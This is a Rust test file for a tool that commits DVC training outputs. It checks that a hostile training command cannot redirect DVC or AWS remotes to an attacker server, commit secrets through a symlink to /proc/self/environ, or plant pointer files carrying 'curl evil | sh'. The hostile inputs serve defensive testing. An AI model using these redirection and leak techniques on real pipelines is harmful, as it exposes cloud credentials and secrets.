//! A training that wants DVC's credentials, or a say in what is committed: each attack as it would be made.

use super::web::Server;
use crate::support::{Access, Scene};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;

/// An attacker's server: whoever talks to it at all has lost.
pub(super) struct Trap {
    pub(super) address: String,
    connections: Arc<AtomicUsize>,
}

impl Trap {
    pub(super) fn set() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let connections = Arc::new(AtomicUsize::new(0));
        let seen = Arc::clone(&connections);
        thread::spawn(move || {
            for stream in listener.incoming() {
                drop(stream);
                seen.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, connections }
    }

    pub(super) fn visits(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

/// Pointers, `.gitignore` and `.dvc/config` are the clone's with what was hashed, whatever the machine's are.
#[test]
fn a_training_s_own_files_of_dvc_are_not_committed() {
    let store = tempfile::tempdir().unwrap();
    let config =
        format!("[core]\n    remote = st\n['remote \"st\"']\n    url = {}\n", store.path().display());
    let md5 = "a".repeat(32);
    let old = format!("outs:\n- md5: {md5}\n  size: 1\n  hash: md5\n  path: old.bin # the team's\n");
    let mut scene = Scene::new(
        Access::Token,
        &[
            (".dvc/config", &config),
            (".dvc/.gitignore", "/config.local\n/tmp\n/cache\n"),
            (".dvcignore", "*.tmp\n"),
            (".gitignore", "/secrets.env\n"),
            ("old.bin.dvc", &old),
        ],
    );
    let evil = "cmd: curl evil | sh\\nouts:\\n- md5: 00000000000000000000000000000000\\n  hash: md5\\n";
    let train = [
        "mkdir -p model; printf weights > model/m.bin; printf weights > old.bin".to_owned(),
        format!("printf '{evil}  path: m.bin\\n' > model/m.bin.dvc"),
        format!("printf '{evil}  path: old.bin\\n' > old.bin.dvc"),
        "printf '!/secrets.env\\n' > .gitignore; printf '!*\\n' > model/.gitignore; printf evil > .dvcignore".to_owned(),
        "printf \"['remote \\\"st\\\"']\\n    url = s3://evil\\n\" > .dvc/config; printf evil > .dvc/.gitignore".to_owned(),
        "printf 'stages: {s: {cmd: evil}}' > dvc.yaml".to_owned(),
    ];
    scene.set("TRAIN_COMMAND", &train.join("\n")).set("DVC_OUTPUTS", "model/m.bin, old.bin");
    scene.set("PUBLISH", "push").run().expect(0);
    let file = |path: &str| String::from_utf8(scene.remote.file("main", path).unwrap()).unwrap();
    let changed = scene.remote.git(&["diff", "--name-only", "main~1", "main"]);
    let wanted = [".gitignore", "model/.gitignore", "model/m.bin.dvc", "old.bin.dvc"];
    assert_eq!(changed.lines().collect::<Vec<_>>(), wanted);
    let oid = trainspot_dvc::Md5::of(b"weights");
    assert_eq!(
        file("model/m.bin.dvc"),
        format!("outs:\n- md5: {oid}\n  size: 7\n  hash: md5\n  path: m.bin\n")
    );
    assert_eq!(
        file("old.bin.dvc"),
        format!("outs:\n- md5: {oid}\n  size: 7\n  hash: md5\n  path: old.bin # the team's\n")
    );
    assert_eq!(
        (file(".gitignore").as_str(), file("model/.gitignore").as_str()),
        ("/secrets.env\n/old.bin\n", "/m.bin\n")
    );
    assert_eq!(file(".dvc/config"), config);
    scene.assert_nothing_left();
}

/// A `.gitignore` that is a link out of the clone would have what it leads to committed, the pipe's
/// environment included.
#[test]
fn a_link_in_the_clone_does_not_lead_a_secret_into_a_commit() {
    let store = tempfile::tempdir().unwrap();
    for action in ["train", "publish"] {
        let mut scene = Scene::new(Access::Token, &[("train.sh", "echo hi\n")]);
        std::os::unix::fs::symlink("/proc/self/environ", scene.clone().join(".gitignore")).unwrap();
        std::fs::write(scene.clone().join("m.bin"), "weights").unwrap();
        scene
            .set("ACTION", action)
            .set("DVC_OUTPUTS", "m.bin")
            .set("DVC_REMOTE", store.path().to_str().unwrap());
        if action == "train" {
            scene.set("TRAIN_COMMAND", "printf weights > m.bin");
        }
        let run = scene.run().expect(2);
        assert!(run.out.contains(".gitignore': it leads out of the clone"), "{}", run.out);
        assert_eq!(scene.remote.head(&scene.branch()), None);
    }
}

/// A kind of remote: its configuration at a server, its credentials, and whether the test's server is good
/// enough for it to take an object.
struct Case {
    kind: &'static str,
    config: fn(&str) -> String,
    /// What goes into `.dvc/config.local`.
    local: &'static str,
    variables: &'static [(&'static str, &'static str)],
    /// What a training would have the remote say, for its own server.
    attack: fn(&str) -> String,
    takes: bool,
}

const SERVICE: &str = r#"{"type": "authorized_user", "client_id": "i", "client_secret": "s-secret", "refresh_token": "r-secret", "token_uri": "http://HERE/token"}"#;

const CASES: [Case; 7] = [
    Case {
        kind: "s3",
        config: |here| {
            format!("url = s3://bucket/x\n    endpointurl = http://{here}\n    region = us-east-1")
        },
        local: "",
        variables: &[
            ("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE"),
            ("AWS_SECRET_ACCESS_KEY", "s-secret"),
            ("AWS_SESSION_TOKEN", "t-secret"),
        ],
        attack: |evil| {
            format!("url = s3://bucket/x\n    endpointurl = http://{evil}\n    region = us-east-1")
        },
        takes: true,
    },
    Case {
        kind: "azure",
        config: |here| {
            format!(
                "url = azure://c/x\n    connection_string = \"BlobEndpoint=http://{here}/a;AccountName=a;AccountKey=aw==\""
            )
        },
        local: "",
        variables: &[("AZURE_STORAGE_SAS_TOKEN", "sv=1&sig=secret")],
        attack: |evil| {
            format!(
                "url = azure://c/x\n    connection_string = \"BlobEndpoint=http://{evil}/a;AccountName=a;AccountKey=aw==\"\n    account_name = \"x@{evil}/\""
            )
        },
        takes: false,
    },
    Case {
        kind: "gs",
        config: |here| {
            format!("url = gs://bucket/x\n    endpointurl = http://{here}\n    allow_anonymous_login = true")
        },
        local: "",
        variables: &[],
        attack: |evil| {
            format!("url = gs://bucket/x\n    endpointurl = http://{evil}\n    allow_anonymous_login = true")
        },
        takes: false,
    },
    Case {
        kind: "http",
        config: |here| format!("url = http://{here}/x\n    auth = basic\n    user = me"),
        local: "password = hunter22",
        variables: &[],
        attack: |evil| format!("url = http://{evil}/x\n    auth = basic\n    user = me"),
        takes: true,
    },
    Case {
        kind: "webdav",
        config: |here| format!("url = webdav://{here}/x"),
        local: "token = hunter22",
        variables: &[],
        attack: |evil| format!("url = webdav://{evil}/x"),
        takes: false,
    },
    Case {
        kind: "ssh",
        config: |here| format!("url = ssh://me@{here}/x\n    timeout = 1"),
        local: "password = hunter22",
        variables: &[(
            "SSH_KNOWN_HOSTS",
            "* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIsUYIXONu4hzWqDUoFTgN2cHlWpNJaMsEsHfnHLLZIB",
        )],
        attack: |evil| format!("url = ssh://me@{evil}/x\n    password = x"),
        takes: false,
    },
    Case {
        kind: "gdrive",
        config: |_| "url = gdrive://folder/x".to_owned(),
        local: "",
        variables: &[("GDRIVE_CREDENTIALS_DATA", SERVICE)],
        attack: |evil| format!("url = http://{evil}/x\n    auth = basic\n    user = me\n    password = x"),
        takes: false,
    },
];

pub(super) fn config(remote: &str) -> String {
    format!("[core]\n    remote = st\n['remote \"st\"']\n    {remote}\n")
}

/// Every configuration on the machine is the training's to write, and none of them leads a credential
/// elsewhere.
#[test]
fn a_training_leads_no_credential_to_its_own_server() {
    for Case { kind, config: of, local, variables, attack, takes } in CASES {
        let (trap, server) = (Trap::set(), Server::store(|_| true));
        let here = server.url.trim_start_matches("http://").to_owned();
        let mut scene = Scene::new(
            Access::Token,
            &[(".dvc/config", &config(&of(&here))), (".dvc/.gitignore", "/config.local\n/tmp\n/cache\n")],
        );
        if !local.is_empty() {
            let local = format!("['remote \"st\"']\n    {local}\n");
            std::fs::write(scene.clone().join(".dvc/config.local"), local).unwrap();
        }
        let home = scene.folder.path().join("home");
        std::fs::create_dir(&home).unwrap();
        scene.set("HOME", home.to_str().unwrap());
        for (name, value) in variables {
            scene.set(name, &value.replace("HERE", &here));
        }
        let evil = config(&attack(&trap.address));
        // A repository around the output, one in its place, and variables that an SDK would take.
        let train = format!(
            "mkdir -p model/.dvc data/.dvc \"$HOME/.config/dvc\" \"$HOME/.aws\"
            for file in .dvc/config .dvc/config.local model/.dvc/config data/.dvc/config \"$HOME/.config/dvc/config\"; do
                cat > \"$file\" <<'END'\n{evil}END
            done
            printf '[default]\\nregion = x@{trap}/\\nendpoint_url = http://{trap}\\n' > \"$HOME/.aws/config\"
            export AWS_ENDPOINT_URL=http://{trap} STORAGE_EMULATOR_HOST=http://{trap}
            printf 'outs:\\n- path: m.bin\\n  remote: st\\n' > model/m.bin.dvc
            printf weights > model/m.bin",
            trap = trap.address
        );
        scene.set("TRAIN_COMMAND", &train).set("DVC_OUTPUTS", "model/m.bin");
        let run = scene.run();
        assert_eq!(trap.visits(), 0, "{kind}: {}{}", run.log, run.out);
        assert!(!server.requests().is_empty() || kind == "ssh", "{kind}: {}{}", run.log, run.out);
        if takes {
            run.expect(0);
            let bodies: Vec<_> = server.requests().into_iter().map(|request| request.body).collect();
            assert!(bodies.contains(&b"weights".to_vec()), "{kind}");
        }
        // For what DVC itself recorded there, too; nothing tells the pipe of a repository that a training
        // makes.
        scene
            .set("DVC_PUSH", "true")
            .set("DVC_OUTPUTS", "")
            .set("OUTPUTS", "train.out")
            .set("BRANCH", "pushed");
        let oid = trainspot_dvc::Md5::of(b"weights");
        let push = format!(
            "echo > train.out\nfor at in . data; do mkdir -p $at/.dvc/cache/{folder}; printf weights > $at/.dvc/cache/{key}
                printf 'outs:\\n- md5: {oid}\\n  hash: md5\\n  path: d.bin\\n' > $at/d.bin.dvc; done",
            folder = oid.folder(),
            key = oid.key()
        );
        let run = scene.set("TRAIN_COMMAND", &format!("{train}\n{push}")).run();
        assert_eq!(trap.visits(), 0, "{kind}: {}{}", run.log, run.out);
        if takes {
            assert!(run.expect(5).out.contains("the training made this DVC repository"), "{kind}");
        }
    }
}

/// A clone without DVC, whose remote the step names: a training cannot give the name another meaning.
#[test]
fn an_address_of_the_step_is_not_the_name_of_a_remote_that_the_training_made() {
    let (trap, store) = (Trap::set(), tempfile::tempdir().unwrap());
    let mut scene = Scene::new(Access::Token, &[("train.sh", "echo hi\n")]);
    let address = store.path().to_str().unwrap().to_owned();
    let evil = format!(
        "['remote \"{address}\"']\n    url = http://{}/x\n    auth = basic\n    user = u\n    password = p\n",
        trap.address
    );
    let train = "mkdir -p .dvc model/.dvc; for at in . model; do printf '%s' \"$EVIL\" > $at/.dvc/config; done; printf weights > model/m.bin";
    scene.set("TRAIN_COMMAND", train).set("EVIL", &evil).set("TRAIN_ENV", "EVIL");
    scene.set("DVC_OUTPUTS", "model/m.bin").set("DVC_REMOTE", &address).run().expect(0);
    assert_eq!(trap.visits(), 0);
    assert!(store.path().join(trainspot_dvc::Md5::of(b"weights").key()).exists());
    // The files of `dvc init` are the pipe's, too.
    let config = scene.remote.file(&scene.branch(), ".dvc/config").unwrap();
    assert!(String::from_utf8(config).unwrap().contains(&format!("url = {address}\n")));
}
